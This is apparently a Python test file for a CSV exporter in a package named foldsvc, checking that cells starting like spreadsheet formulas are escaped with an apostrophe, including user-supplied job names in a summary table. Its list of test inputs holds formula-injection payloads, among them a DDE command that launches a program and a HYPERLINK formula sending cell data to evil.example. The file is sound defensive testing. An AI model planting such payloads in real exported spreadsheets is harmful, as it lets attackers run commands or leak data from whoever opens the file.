"""CSV that spreadsheets show and programs read back."""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, strategies

import foldsvc
from foldsvc.formats.csv_table import csv_table, guarded_text, plain_text
from foldsvc.formats.summary_table import SummaryJob, summary_csv

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://evil.example?"&A1)', "'=1+1", "''@x", "-", "+", "=", "--1", "+A1"),
]
TEXTS = strategies.text(
    strategies.characters(codec="utf-8", exclude_characters="\0"), max_size=6
) | strategies.text(alphabet="'=+-@\t\r\n,\"1Ae", max_size=6)
NUMBERS = ["-1", "+1", "-0.5", "-1e-7", "+.5", "-1.", "-5A", "-inf"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text):
    """Whatever a spreadsheet would compute has an apostrophe before it, once it is read."""
    ((cell, number),) = csv.reader(io.StringIO(csv_table([[text, -1.5]]), newline=""))

    assert cell == f"'{text}"
    assert number == "-1.5"
    assert plain_text(cell) == text


@pytest.mark.parametrize("cell", [*NUMBERS, -1, -0.5, float("-inf"), "", "a-b", "A-B:0.7", "a=b"])
def test_numbers_and_names_stay(cell):
    """Numbers, as numbers or as texts, and names with such a letter inside, are left alone."""
    assert guarded_text(cell) == cell


@given(rows=strategies.lists(strategies.lists(TEXTS, min_size=2), min_size=1))
def test_what_is_written_is_read_back(rows):
    """Any texts come back through a reader of CSV, and none of them begins as a formula does."""
    plain = list(csv.reader(io.StringIO(csv_table(rows, guarded=False), newline="")))
    read = list(csv.reader(io.StringIO(csv_table(rows), newline="")))

    assert plain == rows
    assert [[plain_text(cell) for cell in row] for row in read] == rows
    assert not [cell for row in read for cell in row if cell[:1] in tuple("=@\t\r\n")]


def test_names_of_users_are_guarded_in_the_summary():
    """The name of a job is its user's, and the table is opened by somebody else."""
    job = SummaryJob(
        name="=1+1",
        job_id="",
        state="failed",
        engine="",
        n_chains=1,
        n_res=1,
        failure="@x",
        region_plddt={},
        scores={},
    )
    head, row = csv.reader(io.StringIO("".join(summary_csv([job]))))
    assert dict(zip(head, row, strict=True))["job"] == "'=1+1"
    assert dict(zip(head, row, strict=True))["failure"] == "'@x"
    _, row = csv.reader(io.StringIO("".join(summary_csv([job], guarded=False))))
    assert row[0] == "=1+1"


def test_one_module_writes_csv():
    """No other module writes rows of its own, which nobody would guard."""
    package = Path(foldsvc.__file__).parent
    writing = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
    }
    assert writing == set()
